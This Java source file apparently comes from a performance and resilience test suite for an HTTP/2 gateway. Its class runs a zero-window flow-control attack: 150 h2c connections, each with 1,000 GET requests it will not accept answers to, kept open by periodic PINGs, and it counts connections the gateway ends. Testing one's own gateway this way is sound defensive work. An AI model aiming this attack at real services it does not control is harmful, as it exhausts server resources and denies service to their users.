package dev.opportune.perf.attack.http2;

import dev.opportune.perf.attack.Attack;
import dev.opportune.perf.attack.Crowd;
import dev.opportune.perf.attack.Pace;
import dev.opportune.perf.attack.Target;
import dev.opportune.perf.attack.wire.Frame;
import java.io.IOException;
import java.util.concurrent.atomic.LongAdder;

/// Answers that may not be sent, on connections that are kept alive.
public final class ZeroWindow implements Attack {

    private static final int CONNECTIONS = 150;
    private static final int STREAMS = 1_000;
    private static final long PING_MILLIS = 3_000;

    private final boolean hasKey;

    private ZeroWindow(boolean hasKey) {
        this.hasKey = hasKey;
    }

    public static ZeroWindow withoutKey() {
        return new ZeroWindow(false);
    }

    /// Of a caller whose requests are served as fast as they come.
    public static ZeroWindow withKey() {
        return new ZeroWindow(true);
    }

    @Override
    public String name() {
        return hasKey ? "zero-window-with-key" : "zero-window";
    }

    @Override
    public String what() {
        return "h2c with a window of 0, 1,000 GETs on each of 150 connections, a PING every 3 s; "
                + (hasKey ? "with a key" : "no key");
    }

    @Override
    public void run(Target target) throws InterruptedException {
        var gets = new LongAdder();
        double perSecond = STREAMS / (target.lasts().toMillis() / 1000.0) * 1.5;
        String key = hasKey ? target.keys().attacker() : "";
        int cutOff = Crowd.run(target, CONNECTIONS, _ -> {
            try (var http2 = target.http2(0)) {
                var pace = Pace.perSecond(perSecond / 20);
                for (int i = 0; i < STREAMS && !http2.isOver(); i++) {
                    if (i % 20 == 0) pace.next();
                    int _ = http2.get(hasKey ? "/v1/sends/none" : "/v1/events", key);
                    if (i % 20 == 19) http2.flush();
                    gets.increment();
                }
                while (!target.isOver()) {
                    http2.send(Frame.PING, 0, 0, new byte[8]);
                    http2.flush();
                    if (http2.isOver()) throw new IOException("ended by the gateway");
                    Thread.sleep(PING_MILLIS);
                }
            }
        });
        target.tell(gets.sum() + " GETs, " + cutOff + " connections ended by the gateway");
    }
}
